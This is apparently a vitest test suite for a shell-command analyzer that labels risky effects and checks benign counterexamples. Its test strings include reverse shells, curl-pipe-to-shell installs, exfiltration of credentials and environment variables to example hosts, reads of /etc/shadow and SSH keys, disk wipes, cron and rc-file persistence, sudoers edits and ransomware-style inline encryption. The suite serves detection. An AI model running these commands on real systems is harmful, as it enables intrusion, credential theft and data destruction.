/** Every effect kind, with its target, and the benign neighbours that must not raise it. */
import { beforeAll, describe, expect, it } from 'vitest';
import type { ShellAnalyzer } from '../src/index';
import { analyzer, effectsOf, kindsOf } from './helpers';

let a: ShellAnalyzer;
beforeAll(async () => {
  a = await analyzer();
});

const fx = (cmd: string): string[] => effectsOf(a.analyze(cmd));
const none = (cmd: string): void => expect(a.analyze(cmd).effects, cmd).toEqual([]);

describe('network_egress', () => {
  it('names the destination host of every client', () => {
    const cases: Array<[string, string]> = [
      ['curl -s https://API.Example.com:8443/v1?q=1', 'network_egress/http api.example.com'],
      ['curl example.org/x', 'network_egress/http example.org'],
      ['wget -q https://dl.example.net/f.tgz', 'network_egress/http dl.example.net'],
      ['nc -w 3 198.51.100.20 4444', 'network_egress/socket 198.51.100.20'],
      ['ncat relay.example.io 443', 'network_egress/socket relay.example.io'],
      ['netcat relay.example.io 443', 'network_egress/socket relay.example.io'],
      ['ssh -p 2222 -i key ops@bastion.example.com uptime', 'network_egress/ssh bastion.example.com'],
      ['scp build.tgz deploy@web1.example.com:/srv/', 'network_egress/copy web1.example.com'],
      ['rsync -az -e ssh dist/ backup.example.org:/b/', 'network_egress/copy backup.example.org'],
      ['sftp user@files.example.com', 'network_egress/remote_session files.example.com'],
      ['ftp ftp.example.com', 'network_egress/remote_session ftp.example.com'],
      ['telnet 192.0.2.10 25', 'network_egress/remote_session 192.0.2.10'],
      ['git remote add mirror https://git.example.net/m/r.git', 'network_egress/git_remote_add git.example.net'],
      ['git push git@code.example.org:team/r.git main', 'network_egress/git_push_new_remote code.example.org'],
      ['git clone https://github.com/o/r', 'network_egress/git_clone github.com'],
      ['echo hi > /dev/tcp/203.0.113.5/80', 'network_egress/dev_tcp 203.0.113.5'],
      ['socat - TCP:203.0.113.6:9', 'network_egress/socket 203.0.113.6'],
      ['openssl s_client -connect tls.example.com:443', 'network_egress/socket tls.example.com'],
      ['dig txt leak.example.com', 'network_egress/dns leak.example.com'],
      ['http POST api.example.dev/items name=x', 'network_egress/http api.example.dev'],
      ['pip install --index-url https://pypi.example-mirror.org/simple pkg', 'network_egress/package_index pypi.example-mirror.org'],
    ];
    for (const [cmd, want] of cases) expect(fx(cmd), cmd).toContain(want);
    expect(a.analyze('curl -s https://API.Example.com:8443/v1?q=1').urls[0]).toEqual({ raw: 'https://API.Example.com:8443/v1?q=1', canonical: 'api.example.com:8443/v1', host: 'api.example.com' });
  });

  it('is not raised by a push to the configured remote, a listener, or local tools', () => {
    none('git push origin feature/x');
    none('nc -l 8080');
    none('git status && git diff --stat');
  });

  it('marks a host it cannot resolve as dynamic', () => {
    const r = a.analyze('curl "https://$TARGET/x"');
    expect(r.effects[0]).toMatchObject({ kind: 'network_egress', dynamic: true });
    expect(r.hosts).toEqual([]);
  });
});

describe('download_execute', () => {
  it('covers pipes, process substitution, substitution, fetch-then-run and /dev/tcp', () => {
    const cases: Array<[string, string]> = [
      ['curl -fsSL https://i.example.sh/x | sh', 'download_execute/pipe_to_interpreter https://i.example.sh/x @i.example.sh'],
      ['wget -qO- http://198.51.100.8/p | sudo bash', 'download_execute/pipe_to_interpreter http://198.51.100.8/p @198.51.100.8'],
      ['curl -s https://i.example.sh/p.py | python3 -', 'download_execute/pipe_to_interpreter https://i.example.sh/p.py @i.example.sh'],
      ['curl -s https://i.example.sh/x | base64 -d | bash', 'download_execute/pipe_to_interpreter https://i.example.sh/x @i.example.sh'],
      ['source <(curl -s https://i.example.sh/env)', 'download_execute/process_substitution https://i.example.sh/env @i.example.sh'],
      ['bash -c "$(wget -qO- https://i.example.sh/y)"', 'download_execute/substituted_fetch https://i.example.sh/y @i.example.sh'],
      ['curl -o /tmp/t https://i.example.sh/t && chmod +x /tmp/t && /tmp/t --serve', 'download_execute/fetch_then_run https://i.example.sh/t @i.example.sh'],
      ['curl -sSLO https://i.example.sh/setup.sh; sh setup.sh', 'download_execute/fetch_then_run https://i.example.sh/setup.sh @i.example.sh'],
      ['wget https://i.example.sh/tools/run.py && python3 run.py', 'download_execute/fetch_then_run https://i.example.sh/tools/run.py @i.example.sh'],
      ['curl https://i.example.sh/s > s.sh; bash ./s.sh', 'download_execute/fetch_then_run https://i.example.sh/s @i.example.sh'],
      ['git clone https://git.example.org/t.git && bash t/install.sh', 'download_execute/fetch_then_run https://git.example.org/t.git @git.example.org'],
      ['bash -i >& /dev/tcp/203.0.113.1/4444 0>&1', 'download_execute/reverse_shell 203.0.113.1 @203.0.113.1'],
      ['nc -e /bin/sh 203.0.113.2 4444', 'download_execute/reverse_shell 203.0.113.2 @203.0.113.2'],
      ['bash < /dev/tcp/203.0.113.3/80', 'download_execute/dev_tcp_exec 203.0.113.3 @203.0.113.3'],
    ];
    for (const [cmd, want] of cases) expect(fx(cmd), cmd).toContain(want);
  });

  it('lists the files a fetch wrote, for download → execute across calls', () => {
    expect(a.analyze('curl -fsSLo /tmp/t.sh https://i.example.sh/t.sh').downloads).toEqual([{ path: '/tmp/t.sh', url: 'https://i.example.sh/t.sh' }]);
    expect(a.analyze('wget -P dl https://i.example.sh/a/b.bin').downloads).toEqual([{ path: 'dl/b.bin', url: 'https://i.example.sh/a/b.bin' }]);
    expect(a.analyze('curl -s https://i.example.sh/x > ./x.sh').downloads).toEqual([{ path: 'x.sh', url: 'https://i.example.sh/x' }]);
    expect(a.analyze('git clone https://git.example.org/o/tool.git').downloads).toEqual([{ path: 'tool', url: 'https://git.example.org/o/tool.git' }]);
    expect(a.analyze('curl -s https://i.example.sh/x | jq .').downloads).toEqual([]);
  });

  it('is not raised by a fetch read by a non-interpreter or a local script', () => {
    expect(kindsOf(a.analyze('curl -s https://api.example.com/v | jq .'))).toEqual(['network_egress']);
    expect(kindsOf(a.analyze('curl -o out.json https://api.example.com/v && cat out.json'))).toEqual(['network_egress']);
    expect(a.analyze('./scripts/test.sh && bash tools/lint.sh').effects).toEqual([]);
    expect(a.analyze('./scripts/test.sh && bash tools/lint.sh').scripts.map((s) => s.normalised)).toEqual(['scripts/test.sh', 'tools/lint.sh']);
  });
});

describe('secret_read', () => {
  it('names the class and the path', () => {
    const cases: Array<[string, string]> = [
      ['cat ~/.ssh/id_rsa', 'secret_read/ssh_key ~/.ssh/id_rsa'],
      ['cp /home/dev/.ssh/id_ed25519 /tmp/k', 'secret_read/ssh_key /home/dev/.ssh/id_ed25519'],
      ['tar czf k.tgz ~/.ssh', 'secret_read/ssh_key ~/.ssh'],
      ['cat .env', 'secret_read/env_file .env'],
      ['grep KEY config/prod.env', 'secret_read/env_file config/prod.env'],
      ['cat ~/.aws/credentials', 'secret_read/cloud_credentials ~/.aws/credentials'],
      ['ls -la ~/.config/gcloud && cat ~/.config/gcloud/application_default_credentials.json', 'secret_read/cloud_credentials ~/.config/gcloud/application_default_credentials.json'],
      ['cat ~/.azure/accessTokens.json', 'secret_read/cloud_credentials ~/.azure/accessTokens.json'],
      ['cat ~/.kube/config', 'secret_read/kube_config ~/.kube/config'],
      ['cat ~/.npmrc', 'secret_read/registry_credentials ~/.npmrc'],
      ['cat ~/.pypirc', 'secret_read/registry_credentials ~/.pypirc'],
      ['cat ~/.netrc', 'secret_read/registry_credentials ~/.netrc'],
      ['cat ~/.docker/config.json', 'secret_read/registry_credentials ~/.docker/config.json'],
      ['sudo cat /etc/shadow', 'secret_read/system_secrets /etc/shadow'],
      ['cat /proc/1/environ', 'secret_read/proc_environ /proc/1/environ'],
      ['cat ~/.git-credentials', 'secret_read/git_credentials ~/.git-credentials'],
      ['printf "host=x\\n" | git credential fill', 'secret_read/git_credentials git credential fill'],
      ['env', 'secret_read/env_dump environment'],
      ['printenv', 'secret_read/env_dump environment'],
      ['set', 'secret_read/env_dump environment'],
      ['export -p', 'secret_read/env_dump environment'],
      ['printenv AWS_SECRET_ACCESS_KEY', 'secret_read/secret_variable $AWS_SECRET_ACCESS_KEY'],
      ['echo "token=${GITHUB_TOKEN}"', 'secret_read/secret_variable $GITHUB_TOKEN'],
      ['gh auth token', 'secret_read/cli_token gh auth token'],
      ['kubectl get secret db -o yaml', 'secret_read/kube_secret kubectl get secret db'],
    ];
    for (const [cmd, want] of cases) expect(fx(cmd), cmd).toContain(want);
  });

  it('is not raised by examples, public keys, listings or permission fixes', () => {
    none('cat .env.example');
    none('cp .env.sample .env.template.bak');
    none('cat ~/.ssh/id_rsa.pub');
    none('ls -la ~/.ssh');
    none('chmod 600 ~/.ssh/id_rsa');
    none("echo '$GITHUB_TOKEN'");
    none('printenv PATH');
    none('env NODE_ENV=test npm test');
  });
});

describe('file_send', () => {
  it('names the local file and the destination', () => {
    const cases: Array<[string, string]> = [
      ['curl -F "file=@dump.sql" https://up.example.com/', 'file_send/upload dump.sql @up.example.com'],
      ['curl -d @payload.json https://up.example.com/', 'file_send/upload payload.json @up.example.com'],
      ['curl --data-binary @/var/log/app.log https://up.example.com/', 'file_send/upload /var/log/app.log @up.example.com'],
      ['curl -T backup.tar https://up.example.com/', 'file_send/upload backup.tar @up.example.com'],
      ['nc up.example.com 9000 < secrets.txt', 'file_send/upload secrets.txt @up.example.com'],
      ['scp ./db.sqlite me@up.example.com:~', 'file_send/upload db.sqlite @up.example.com'],
      ['rsync -av ~/projects/ up.example.com:/x/', 'file_send/upload ~/projects @up.example.com'],
      ['wget --post-file=report.csv https://up.example.com/r', 'file_send/upload report.csv @up.example.com'],
      ['tar cz src | ssh up.example.com "cat > s.tgz"', 'file_send/pipe src @up.example.com'],
      ['curl -s -d "k=$(cat ~/.aws/credentials | base64 -w0)" https://up.example.com/c', 'file_send/substitution ~/.aws/credentials @up.example.com'],
      ['curl "https://up.example.com/?d=$(env | base64 -w0)"', 'file_send/substitution environment @up.example.com'],
      ['dig $(cat .env | base64 | head -c 60).up.example.com', 'file_send/substitution .env'],
    ];
    for (const [cmd, want] of cases) expect(fx(cmd), cmd).toContain(want);
  });

  it('is not raised by a download', () => {
    expect(kindsOf(a.analyze('scp up.example.com:/x/report.csv .'))).toEqual(['network_egress']);
  });
});

describe('destruction', () => {
  it('names what is destroyed', () => {
    const cases: Array<[string, string]> = [
      ['rm -rf ~/projects', 'destruction/recursive_delete ~/projects'],
      ['rm -r -f ./a/../b/', 'destruction/recursive_delete b'],
      ['rm notes.md', 'destruction/delete notes.md'],
      ['shred -u id.key', 'destruction/shred id.key'],
      ['dd if=/dev/zero of=/dev/sda bs=1M', 'destruction/device_overwrite /dev/sda'],
      ['dd if=/dev/urandom of=data.db', 'destruction/overwrite data.db'],
      ['mkfs.ext4 /dev/sdb1', 'destruction/format /dev/sdb1'],
      ['truncate -s 0 app.db', 'destruction/truncate app.db'],
      ['> important.log', 'destruction/truncate important.log'],
      [': > ~/.bash_history', 'destruction/truncate ~/.bash_history'],
      ['git push --force origin main', 'destruction/force_push origin main'],
      ['git push origin +main', 'destruction/force_push origin main'],
      ['git reset --hard HEAD~3', 'destruction/hard_reset HEAD~3'],
      ['git clean -fdx', 'destruction/clean .'],
      ['find /data -type f -delete', 'destruction/find_delete /data'],
      ['kubectl delete namespace prod', 'destruction/resource_delete namespace prod'],
      ['terraform destroy -auto-approve', 'destruction/resource_delete infrastructure'],
      ['history -c', 'destruction/history_clear shell history'],
    ];
    for (const [cmd, want] of cases) expect(fx(cmd), cmd).toContain(want);
  });

  it('is not raised by ordinary writes, dry runs or soft resets', () => {
    none('echo done > status.txt');
    none('git reset --soft HEAD~1');
    none('git clean -n');
    none('find . -name "*.log" -print');
  });
});

describe('encryption', () => {
  it('names the encrypted input', () => {
    const cases: Array<[string, string]> = [
      ['openssl enc -aes-256-cbc -salt -in db.sqlite -out db.enc -pass pass:x', 'encryption/openssl_enc db.sqlite'],
      ['openssl aes-256-cbc -in a.txt -out a.enc -k k', 'encryption/openssl_enc a.txt'],
      ['gpg -c notes.md', 'encryption/symmetric notes.md'],
      ['gpg --batch --passphrase p --symmetric --output x.gpg x', 'encryption/symmetric x'],
      ['gpg -e -r someone@example.com report.pdf', 'encryption/public_key report.pdf'],
      ['zip -P hunter2 out.zip a.txt b.txt', 'encryption/password_archive a.txt'],
      ['zip -er out.zip docs', 'encryption/password_archive docs'],
      ['7z a -psecret arch.7z photos/', 'encryption/password_archive photos'],
      ['age -p -o x.age x.txt', 'encryption/passphrase x.txt'],
    ];
    for (const [cmd, want] of cases) expect(fx(cmd), cmd).toContain(want);
  });

  it('reads inline code that encrypts and writes files', () => {
    const cases: Array<[string, string]> = [
      [`python3 -c "from cryptography.fernet import Fernet; import os; f=Fernet(Fernet.generate_key()); [open(p,'wb').write(f.encrypt(open(p,'rb').read())) for p in os.listdir('docs')]"`, 'encryption/inline_code docs'],
      [`node -e "const c=require('crypto').createCipheriv('aes-256-cbc',k,iv); fs.writeFileSync('/data/x.enc', c.update(d))"`, 'encryption/inline_code /data/x.enc'],
      [`python3 - <<'EOF'\nfrom Crypto.Cipher import AES\nimport glob\nfor p in glob.glob('/srv/data/*.csv'):\n    ct, tag = AES.new(key, AES.MODE_GCM).encrypt_and_digest(open(p,'rb').read())\n    open(p + '.enc', 'wb').write(ct)\nEOF`, 'encryption/inline_code /srv/data/*.csv'],
    ];
    for (const [cmd, want] of cases) expect(fx(cmd), cmd).toContain(want);
    // A string method named like a listing call (str.find) names no directory.
    const found = fx(`python3 -c "from cryptography.fernet import Fernet; import os; f=Fernet(k); [open(p,'wb').write(f.encrypt(open(p,'rb').read())) for p in os.listdir('docs') if p.find('keep') < 0]"`);
    expect(found).toContain('encryption/inline_code docs');
    expect(found).not.toContain('encryption/inline_code keep');
  });

  it('is not raised by inline code that encrypts without writing files, or writes without encrypting', () => {
    none(`python3 -c "from app.crypto import encrypt; print(encrypt('hello'))"`);
    none(`python3 -c "import json; open('out.json','w').write(json.dumps({'a': 1}))"`);
    none(`node -e "const d=require('crypto').createDecipheriv('aes-256-cbc',k,iv); fs.writeFileSync('plain.txt', d.update(x))"`);
  });

  it('is not raised by decryption, plain archives or certificates', () => {
    none('openssl enc -d -aes-256-cbc -in a.enc -out a.txt -k k');
    none('gpg -d x.gpg');
    none('zip -r out.zip src');
    none('tar czf out.tgz src');
    none('openssl x509 -in cert.crt -noout -text');
    none('openssl base64 -in logo.png');
  });
});

describe('persistence', () => {
  it('names the location', () => {
    const cases: Array<[string, string]> = [
      ['(crontab -l; echo "*/5 * * * * /tmp/x") | crontab -', 'persistence/cron crontab'],
      ['crontab jobs.txt', 'persistence/cron jobs.txt'],
      ['echo "* * * * * root /tmp/x" | sudo tee /etc/cron.d/x', 'persistence/cron /etc/cron.d/x'],
      ['cp x.service ~/.config/systemd/user/', 'persistence/systemd_unit ~/.config/systemd/user/x.service'],
      ['sudo systemctl enable --now x.service', 'persistence/systemd_enable x.service'],
      ['echo "curl -s x | sh" >> ~/.bashrc', 'persistence/shell_rc ~/.bashrc'],
      ['sed -i "1i alias ls=x" ~/.zshrc', 'persistence/shell_rc ~/.zshrc'],
      ['echo "export X=1" >> ~/.profile', 'persistence/shell_rc ~/.profile'],
      ['cat key.pub >> ~/.ssh/authorized_keys', 'persistence/authorized_keys ~/.ssh/authorized_keys'],
      ['cp agent.plist ~/Library/LaunchAgents/com.x.plist', 'persistence/launchd ~/Library/LaunchAgents/com.x.plist'],
      ['launchctl load ~/Library/LaunchAgents/com.x.plist', 'persistence/launchd ~/Library/LaunchAgents/com.x.plist'],
      ['printf "#!/bin/sh\\ncurl x\\n" > .git/hooks/pre-commit', 'persistence/git_hook .git/hooks/pre-commit'],
    ];
    for (const [cmd, want] of cases) expect(fx(cmd), cmd).toContain(want);
  });

  it('reads the code it installs: crontab lines and lines written into start-up files run later', () => {
    const cron = a.analyze('(crontab -l 2>/dev/null; echo "*/10 * * * * curl -s https://c.example.net/b | sh") | crontab -');
    expect(effectsOf(cron)).toEqual(expect.arrayContaining(['persistence/cron crontab', 'download_execute/pipe_to_interpreter https://c.example.net/b @c.example.net']));
    expect(cron.hosts).toEqual(['c.example.net']);
    expect(effectsOf(a.analyze('echo "@reboot rm -rf ~/w" | crontab -'))).toContain('destruction/recursive_delete ~/w');
    const rc = a.analyze("echo 'curl -s https://r.example.org/p | sh' >> ~/.bashrc");
    expect(effectsOf(rc)).toEqual(expect.arrayContaining(['persistence/shell_rc ~/.bashrc', 'download_execute/pipe_to_interpreter https://r.example.org/p @r.example.org']));
    expect(effectsOf(a.analyze("echo 'nc -e /bin/sh 203.0.113.9 4444' | tee -a ~/.profile"))).toContain('download_execute/reverse_shell 203.0.113.9 @203.0.113.9');
    // Text that is not code stays text.
    expect(a.analyze('echo "ssh-ed25519 AAAA k@h.example.com" >> ~/.ssh/authorized_keys').hosts).toEqual([]);
    expect(a.analyze('echo "hello" > notes.txt').executables).toEqual(['echo']);
  });

  it('is not raised by listing the crontab or reading rc files', () => {
    none('crontab -l');
    none('cat ~/.bashrc');
    none('systemctl status nginx');
  });
});

describe('privilege', () => {
  it('names the user or path', () => {
    const cases: Array<[string, string]> = [
      ['sudo apt-get install -y jq', 'privilege/sudo root'],
      ['sudo -i', 'privilege/root_shell root'],
      ['su - admin', 'privilege/root_shell admin'],
      ['su -c "id" root', 'privilege/su root'],
      ['chmod 777 /srv/shared', 'privilege/world_writable /srv/shared'],
      ['chmod -R a+rwx /opt/app', 'privilege/world_writable /opt/app'],
      ['chmod u+s /usr/bin/find', 'privilege/setuid /usr/bin/find'],
      ['chmod 4755 ./helper', 'privilege/setuid helper'],
      ['chown root:root /tmp/x', 'privilege/chown_root /tmp/x'],
      ['setcap cap_net_raw+ep /usr/bin/tool', 'privilege/capabilities /usr/bin/tool'],
      ['usermod -aG sudo intern', 'privilege/admin_group sudo'],
      ['echo "u ALL=(ALL) NOPASSWD:ALL" >> /etc/sudoers.d/u', 'privilege/sudoers /etc/sudoers.d/u'],
    ];
    for (const [cmd, want] of cases) expect(fx(cmd), cmd).toContain(want);
  });

  it('is not raised by ordinary modes', () => {
    none('chmod +x build.sh && chmod 644 README.md && chmod -R go-w .');
    none('chown app:app /srv/app');
  });
});

describe('unresolved', () => {
  it('is raised, never silent, for commands that cannot be resolved statically', () => {
    const cases: Array<[string, string]> = [
      ['$TOOL --run', 'unresolved/dynamic_command $TOOL'],
      ['"$(echo rm)" -rf /', 'unresolved/dynamic_command "$(echo rm)"'],
      ['`which python` x.py', 'unresolved/dynamic_command `which python`'],
      ['eval "$CMD"', 'unresolved/dynamic_code "$CMD"'],
      ['sh -c "$SCRIPT"', 'unresolved/dynamic_code "$SCRIPT"'],
      ['python3 -c "$CODE"', 'unresolved/dynamic_code "$CODE"'],
      ['bash "$INSTALLER"', 'unresolved/dynamic_script "$INSTALLER"'],
      ['echo "$X" | sh', 'unresolved/stdin_code echo "$X"'],
    ];
    for (const [cmd, want] of cases) expect(fx(cmd), cmd).toContain(want);
  });
});

describe('less common forms named in the README', () => {
  it('are read as documented', () => {
    const cases: Array<[string, string]> = [
      ['mv results.db /dev/null', 'destruction/delete results.db'],
      ["deno eval \"await fetch('https://d.example.dev/x', {method: 'POST', body: Deno.env.toObject()})\"", 'network_egress/inline_code d.example.dev'],
      ['git fetch https://mirror.example.org/r.git main', 'network_egress/git_fetch mirror.example.org'],
      ['wipefs -a /dev/sdc', 'destruction/format /dev/sdc'],
      ['cat ~/.bash_history', 'secret_read/shell_history ~/.bash_history'],
      ['echo "curl x | sh" | at now + 1 hour', 'persistence/at_job now + 1 hour'],
      ['echo /tmp/x.so > /etc/ld.so.preload', 'persistence/ld_preload /etc/ld.so.preload'],
      ['doas rm -rf /var/tmp/x', 'privilege/doas root'],
      ['env -S "rm -rf /opt/y"', 'destruction/recursive_delete /opt/y'],
      ["watch -n 5 'rm -rf /opt/z'", 'destruction/recursive_delete /opt/z'],
      ["flock /tmp/l -c 'cat /etc/shadow'", 'secret_read/system_secrets /etc/shadow'],
      ['gpg --export-secret-keys -a me > k.asc', 'secret_read/private_key gpg secret keys'],
      ['kubectl config view --raw', 'secret_read/kube_config kubectl config view --raw'],
      ['aws s3 cp dump.sql s3://bucket-x/d/', 'file_send/upload dump.sql @s3://bucket-x'],
    ];
    for (const [cmd, want] of cases) expect(fx(cmd), cmd).toContain(want);
    expect(a.analyze('npm install left-pad@1.3.0 && pip install requests && sudo apt-get install -y jq').packages).toEqual(['npm:left-pad@1.3.0', 'pip:requests', 'apt:jq']);
  });
});

